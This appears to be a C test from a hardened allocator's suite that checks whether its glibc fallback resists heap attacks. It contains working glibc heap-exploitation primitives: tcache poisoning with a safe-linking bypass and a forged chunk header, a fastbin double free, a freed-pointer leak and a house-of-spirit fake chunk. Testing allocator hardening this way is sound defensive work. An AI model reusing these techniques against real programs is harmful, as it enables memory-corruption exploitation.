/* glibc_side: fill the slz heap, then attack the blocks glibc serves
 * (issue 18: the fallback must be no weaker than slz).
 *
 * Goal: as for the same technique against slz's own blocks: malloc()
 * returns memory the program keeps elsewhere, or one block twice.
 *
 * First every request that fits the thread's slz heap is made until a
 * small one comes from glibc's main heap (fill_heap); then, on 100- or
 * 40-byte blocks that glibc serves:
 *   glibc_side tcache TARGET   tcache poisoning: B and A freed, A's link
 *                              (safe-linked, as glibc 2.36 stores it)
 *                              pointed at TARGET, three mallocs; a fake
 *                              size word below TARGET marks it a thread
 *                              arena's chunk, as an attacker would to pass
 *                              a check of glibc's chunk bits
 *   glibc_side fastbin         the thread cache filled (7 frees), then
 *                              free(A), free(B), free(A): fastbin dup; ten
 *                              mallocs, two the same?
 *   glibc_side leak            20 glibc blocks filled with 0xA5, freed and
 *                              taken again: does a fresh block hold a word
 *                              the program never wrote (a list link)?
 *   glibc_side spirit TARGET   house of spirit: a fake 64-byte chunk (and
 *                              the next one's header) built at TARGET,
 *                              freed, then five mallocs
 * TARGET: stack (another thread's stack), mmap (an anonymous mapping),
 * lib (library data: libc's stdin FILE, unused here), bss (a global).
 */
#include <pthread.h>
#include <sys/mman.h>

#include "attacks.h"

static uintptr_t bss_buf[64] __attribute__((aligned(64)));
static uintptr_t *thread_buf;
static int done_pipe[2], ready_pipe[2];

static void *holder(void *arg)
{
    uintptr_t buf[64] __attribute__((aligned(64)));
    char c = 0;
    (void)arg;
    memset(buf, 0, sizeof buf);
    thread_buf = opaque(buf);
    if (write(ready_pipe[1], &c, 1) != 1 || read(done_pipe[0], &c, 1) < 0) /* the stack lives until the end */
        _exit(3);
    return NULL;
}

/* target_of: 64 16-aligned bytes to aim at, with room below (a fake
 * header) and above. */
static uintptr_t *target_of(const char *where)
{
    if (IS(where, "stack")) {
        pthread_t t;
        char c;
        if (pipe(done_pipe) || pipe(ready_pipe) || pthread_create(&t, NULL, holder, NULL) ||
            read(ready_pipe[0], &c, 1) != 1)
            usage("cannot start the thread\n");
        return thread_buf + 16;
    }
    if (IS(where, "mmap")) {
        uintptr_t *m = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        return m == MAP_FAILED ? NULL : m + 256;
    }
    if (IS(where, "lib"))
        return (uintptr_t *)(((uintptr_t)stdin + 15) & ~(uintptr_t)15);
    if (IS(where, "bss"))
        return bss_buf + 16;
    usage("glibc_side tcache|spirit stack|mmap|lib|bss, or glibc_side fastbin|leak\n");
}

static void tcache(uintptr_t *t)
{
    char *lo = opaque(malloc(100)), *a = opaque(malloc(100)), *b = opaque(malloc(100)), *hi = opaque(malloc(100));
    if (!from_glibc_heap(a) || !from_glibc_heap(b))
        not_reached("cannot aim: the 100-byte blocks %p and %p are not glibc's", (void *)a, (void *)b);
    free(b);
    free(a);
    t[-1] = 0x70 | 4; /* a size word with NON_MAIN_ARENA, below the target */
    uintptr_t *w = opaque(a);
    w[0] = ((uintptr_t)a >> 12) ^ (uintptr_t)t; /* use after free */
    for (int i = 0; i < 3; i++) {
        char *p = opaque(malloc(100));
        if (p && overlap(p, 100, t, 64))
            reached("malloc(100) number %d returned %p, on the target %p", i + 1, (void *)p, (void *)t);
    }
    opaque(lo), opaque(hi);
    not_reached("no malloc returned the target %p", (void *)t);
}

static void fastbin(void)
{
    char *keep[7], *a = opaque(malloc(40)), *b = opaque(malloc(40)), *got[10];
    for (int i = 0; i < 7; i++)
        keep[i] = opaque(malloc(40));
    if (!from_glibc_heap(a) || !from_glibc_heap(b))
        not_reached("cannot aim: the 40-byte blocks %p and %p are not glibc's", (void *)a, (void *)b);
    for (int i = 0; i < 7; i++)
        free(keep[i]);
    free(a);
    free(b);
    free(a);
    for (int i = 0; i < 10; i++) {
        got[i] = opaque(malloc(40));
        for (int j = 0; j < i; j++)
            if (got[i] && got[i] == got[j])
                reached("malloc(40) number %d and number %d both returned %p", j + 1, i + 1, (void *)got[i]);
    }
    not_reached("ten mallocs returned ten different blocks");
}

static void leak(void)
{
    uint64_t *b[20];
    for (int round = 0; round < 2; round++) {
        for (int i = 0; i < 20; i++) {
            b[i] = opaque(malloc(100));
            if (!from_glibc_heap(b[i]))
                not_reached("cannot aim: the 100-byte block %p is not glibc's", (void *)b[i]);
            for (int w = 0; w < 12 && round == 1; w++)
                if (b[i][w] != 0 && b[i][w] != 0xA5A5A5A5A5A5A5A5ull)
                    reached("the fresh block %p holds %#llx at offset %d, which the program never wrote", (void *)b[i],
                            (unsigned long long)b[i][w], 8 * w);
            memset(b[i], 0xA5, 100);
        }
        for (int i = 0; i < 20; i++)
            free(b[i]);
    }
    not_reached("every fresh block held only the program's bytes or zeros");
}

static void spirit(uintptr_t *fake)
{
    memset(fake, 0, 80);
    fake[-1] = 0x41; /* glibc's size word of a 64-byte chunk */
    fake[7] = 0x41;  /* and the next chunk's */
    free(fake);
    static const size_t asks[] = {56, 56, 40, 48, 24};
    for (int i = 0; i < 5; i++) {
        char *p = opaque(malloc(asks[i]));
        if (p && overlap(p, asks[i], fake, 64))
            reached("malloc(%zu) number %d returned %p, the fake chunk at %p", asks[i], i + 1, (void *)p, (void *)fake);
    }
    not_reached("no malloc returned the fake chunk at %p", (void *)fake);
}

int main(int argc, char **argv)
{
    const char *how = argc > 1 ? argv[1] : "", *where = argc > 2 ? argv[2] : "bss";
    int aimed = IS(how, "tcache") || IS(how, "spirit");
    uintptr_t *t = aimed ? target_of(where) : NULL;
    if (aimed && t == NULL)
        usage("no target\n");
    if (!fill_heap(IS(how, "fastbin") ? 40 : 100))
        not_reached("cannot aim: small requests still do not come from glibc after filling the heap");
    if (IS(how, "tcache"))
        tcache(t);
    if (IS(how, "fastbin"))
        fastbin();
    if (IS(how, "leak"))
        leak();
    if (IS(how, "spirit"))
        spirit(t);
    usage("glibc_side tcache|spirit stack|mmap|lib|bss, or glibc_side fastbin|leak\n");
}
